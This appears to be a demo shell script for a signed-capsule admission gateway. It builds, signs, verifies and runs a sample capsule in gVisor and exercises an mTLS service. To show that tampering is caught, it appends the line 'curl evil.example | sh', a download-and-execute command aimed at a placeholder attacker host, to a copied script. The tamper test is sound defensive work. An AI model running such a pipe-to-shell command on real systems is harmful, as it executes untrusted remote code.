#!/usr/bin/env bash
# The main job, end to end on a fresh machine: build, make a key and a sample capsule,
# verify and admit it, run it in gVisor, then show that a tampered copy is denied.
# Needs root: it installs Debian packages if missing (scripts/install-run-deps.sh only:
# nothing the tests alone need), and gVisor's sandbox is started as root.
set -euo pipefail
cd "$(dirname "$0")/.."

if [ "$(id -u)" -ne 0 ]; then
  echo "demo: needs root (it installs runsc, containerd, libtss2 and swtpm when missing, and starts gVisor sandboxes); run: sudo bash scripts/demo.sh" >&2
  exit 2
fi
echo "demo: running as root: installing what running needs (scripts/install-run-deps.sh), then building"
bash scripts/install-run-deps.sh
cargo build --release -q -p capsule-gateway
gw=target/release/capsule-gateway
work=target/demo
rm -rf "$work"
mkdir -p "$work"

echo "== keygen (ES256)"
"$gw" keygen --alg ES256 --kid demo-es --out "$work/keys"

now=$(date +%s)
sed -e "s/@NOW@/$now/g" -e "s/@EXPIRES@/$((now + 7 * 86400))/" \
  examples/sample-capsule/manifest.template.json > "$work/manifest.json"
tool_digest=$(sha256sum examples/sample-capsule/files/tools/probe.sh | cut -d' ' -f1)
sed -e "s/@TOOL_DIGEST@/$tool_digest/" examples/policy.template.toml > "$work/policy.toml"

echo "== pack"
"$gw" pack --manifest "$work/manifest.json" --files examples/sample-capsule/files \
  --key "$work/keys/demo-es.private.jwk.json" --out "$work/capsule"

runner=spiffe://acme.example/runner/demo
echo "== verify"
"$gw" verify --policy "$work/policy.toml" --runner "$runner" --json "$work/capsule"
echo "== admit (recorded in $work/state)"
"$gw" admit --policy "$work/policy.toml" --runner "$runner" --state "$work/state" --json "$work/capsule"

echo "== run it in gVisor (runsc --network=none, ptrace platform): one CloudEvent on stdout"
event=$("$gw" run --policy "$work/policy.toml" --runner "$runner" --state "$work/state" "$work/capsule")
echo "$event"
case "$event" in
  *'"type":"dev.capsule-gateway.run.completed"'*'"blocked":true'*'"teardown":{"ok":true'*) ;;
  *) echo "demo: expected a completed run with egress blocked and a clean teardown" >&2; exit 1 ;;
esac
echo "   evidence bundles: $work/state/evidence/"

echo "== a tampered copy is denied"
cp -r "$work/capsule" "$work/tampered"
printf 'curl evil.example | sh\n' >> "$work/tampered/files/run.sh"
set +e
"$gw" verify --policy "$work/policy.toml" --runner "$runner" --json "$work/tampered"
code=$?
set -e
if [ "$code" -ne 1 ]; then
  echo "demo: expected the tampered capsule to be denied (exit 1), got $code" >&2
  exit 1
fi
echo "== serve: the mTLS admission service, embedded development trust domain"
"$gw" serve --state-dir "$work/serve" --listen 127.0.0.1:0 2>"$work/serve.log" &
serve_pid=$!
trap 'kill "$serve_pid" 2>/dev/null || true' EXIT
for _ in $(seq 100); do
  grep -q "serving on" "$work/serve.log" && break
  sleep 0.1
done
cat "$work/serve.log"
addr=$(grep -o 'serving on https://[0-9.:]*' "$work/serve.log" | sed 's#serving on https://##')
[ -n "$addr" ] || { echo "demo: serve did not start" >&2; exit 1; }
scripts/dev-capsule.sh "$gw" "$work/serve" "$work/dev-capsule"
echo "== admit through the service: loadgen uploads the capsule's files as blobs, then"
echo "   sends its JWS over 2 mTLS connections (client SVID $work/serve/dev/client)"
"$gw" loadgen --url "https://$addr" --svid "$work/serve/dev/client" \
  --capsule "$work/dev-capsule" --connections 2 --rate 50 --duration 2 --json >"$work/loadgen.json"
cat "$work/loadgen.json"
python3 - "$work/loadgen.json" <<'PY'
import json, sys
d = json.load(open(sys.argv[1]))
ok = d["status"].get("200", 0)
if ok == 0 or set(d["status"]) != {"200"} or d["errors"]:
    sys.exit(f"demo: expected only admissions (200) through the service, got {d['status']}, errors {d['errors']}")
print(f"   {ok} admissions through the service, p99 {d['latency_ms']['p99']} ms")
PY
kill "$serve_pid"
wait "$serve_pid" || true

echo "demo: OK (admitted the signed capsule, ran it in gVisor, denied the tampered copy with exit code $code, admitted through the mTLS service)"
